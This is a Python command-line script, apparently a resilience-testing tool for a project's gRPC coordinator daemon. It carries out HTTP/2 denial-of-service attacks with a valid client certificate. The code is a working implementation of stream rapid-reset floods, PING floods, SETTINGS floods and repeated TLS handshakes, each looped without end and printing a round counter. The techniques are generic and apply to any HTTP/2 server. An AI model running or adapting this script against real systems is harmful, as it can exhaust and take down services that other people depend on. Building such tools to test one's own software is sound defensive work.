"""One attack on a daemon, by somebody with a good certificate: attacker.py KIND ADDRESS PORT PKI NAME.

KIND: one of ATTACKS. PKI: a folder with ca.pem, NAME.pem and NAME.key (tools/certs). Runs
until it is killed, and prints "round N" after each turn.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

PATIENCE_SECONDS = 5.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING = 0, 1, 3, 4, 6
END_HEADERS, ACK = 4, 1
CANCEL = bytes([0, 0, 0, 8])
STREAMS_A_TURN = 14_800
PINGS_A_TURN = 50_000
SETTINGS_A_TURN = 50_000


@dataclass(frozen=True)
class Target:
    """Whom to attack, and as whom."""

    address: str
    port: int
    pki: Path
    name: str

    def connect(self) -> ssl.SSLSocket:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.load_verify_locations(self.pki / "ca.pem")
        context.load_cert_chain(self.pki / f"{self.name}.pem", self.pki / f"{self.name}.key")
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection((self.address, self.port), PATIENCE_SECONDS)
        return context.wrap_socket(plain)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def call(path: str) -> bytes:
    """The fields of a call, in HPACK: literals that enter no table."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "x",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(
        bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


def hello_of(agent: str) -> bytes:
    """The message that an agent sends first, as gRPC carries it."""
    texts = {1: agent, 2: "x" * 16, 3: "site-x", 4: "127.0.0.1:1", 5: "1"}
    hello = b"".join(
        bytes([number << 3 | 2, len(text)]) + text.encode() for number, text in texts.items()
    )
    message = bytes([1 << 3 | 2, len(hello)]) + hello
    return bytes(1) + len(message).to_bytes(4, "big") + message


def flood(target: Target, parts: Iterator[bytes]) -> None:
    """Sends all of it on one connection, or as much as the other side takes."""
    with (
        contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
        target.connect() as connection,
    ):
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        for part in parts:
            connection.sendall(part)


def in_pieces(frames: Iterator[bytes], count: int = 2_000) -> Iterator[bytes]:
    piece: list[bytes] = []
    for each in frames:
        piece.append(each)
        if len(piece) == count:
            yield b"".join(piece)
            piece = []
    yield b"".join(piece)


def rapid_reset(target: Target) -> None:
    """Calls that are taken back at once."""
    fields = call("/pactrain.v1.Coordinator/AgentStream")
    hello = hello_of(target.name.removeprefix("agent-"))
    flood(
        target,
        in_pieces(
            frame(HEADERS, END_HEADERS, stream, fields)
            + frame(DATA, 0, stream, hello)
            + frame(RESET, 0, stream, CANCEL)
            for stream in range(1, 2 * STREAMS_A_TURN, 2)
        ),
    )


def pings(target: Target) -> None:
    flood(target, in_pieces(frame(PING, 0, 0, bytes(8)) for _ in range(PINGS_A_TURN)))


def settings(target: Target) -> None:
    flood(target, in_pieces(frame(SETTINGS, 0, 0) for _ in range(SETTINGS_A_TURN)))


def handshakes(target: Target) -> None:
    """A connection, and the next one."""
    with (
        contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
        target.connect() as connection,
    ):
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        connection.recv(1)


ATTACKS: dict[str, Callable[[Target], None]] = {
    "rapid-reset": rapid_reset,
    "pings": pings,
    "settings": settings,
    "handshakes": handshakes,
}


def main() -> None:
    kind, address, port, pki, name = sys.argv[1:]
    target = Target(address, int(port), Path(pki), name)
    number = 0
    while True:
        ATTACKS[kind](target)
        number += 1
        print(f"round {number} {time.monotonic():.3f}", flush=True)


if __name__ == "__main__":
    main()
